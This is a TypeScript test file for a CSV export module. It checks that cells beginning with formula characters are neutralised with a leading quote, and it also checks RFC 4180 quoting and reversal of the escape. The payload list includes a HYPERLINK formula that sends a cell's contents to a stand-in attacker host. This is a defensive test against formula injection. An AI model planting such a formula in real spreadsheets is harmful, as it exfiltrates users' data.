import { describe, expect, it } from "@atrium/test-kit";

import { CSV_FORMULA_START, csvField, csvRecord, neutraliseFormula, restoreFormulaText } from "./csv.ts";

/** OWASP's formula starts, and the values decision 0026 escapes on purpose (a phone, a lone negative number). */
const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "-5",
  "+15550102030",
];

describe("CSV cells (decision 0026)", () => {
  it.each(FORMULA_PAYLOADS)("neutralises %j with a leading quote, and quotes the field", (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    expect(csvField(payload)).toBe(`"'${payload.replace(/"/g, '""')}"`);
    expect(restoreFormulaText(neutraliseFormula(payload))).toBe(payload);
  });

  it("leaves other text alone, quoting only what RFC 4180 needs", () => {
    expect(csvField("Ada Lovelace")).toBe("Ada Lovelace");
    expect(csvField("ada@example.com")).toBe("ada@example.com"); // @ inside, not first
    expect(csvField("a-b=c")).toBe("a-b=c");
    expect(csvField("'quoted already")).toBe("'quoted already");
    expect(csvField('Ada "The Countess"')).toBe('"Ada ""The Countess"""');
    expect(csvField("Lovelace, Ada")).toBe('"Lovelace, Ada"');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField(" padded ")).toBe('" padded "');
    expect(csvField("")).toBe("");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
  });

  it("writes numbers the product computed as numbers (they cannot hold a formula)", () => {
    expect(csvField(-5)).toBe("-5");
    expect(csvField(0.25)).toBe("0.25");
    expect(csvField(Number.NaN)).toBe("");
  });

  it("restores only the quote it added", () => {
    expect(restoreFormulaText("'=1+1")).toBe("=1+1");
    expect(restoreFormulaText("'+15550102030")).toBe("+15550102030");
    expect(restoreFormulaText("'quoted")).toBe("'quoted");
    expect(restoreFormulaText("O'Brien")).toBe("O'Brien");
    expect(restoreFormulaText("=1+1")).toBe("=1+1");
  });

  it("records end with CRLF", () => {
    expect(csvRecord(["=1+1", "x", 3, null])).toBe(`"'=1+1",x,3,\r\n`);
    expect(CSV_FORMULA_START.test("x=1")).toBe(false);
  });
});
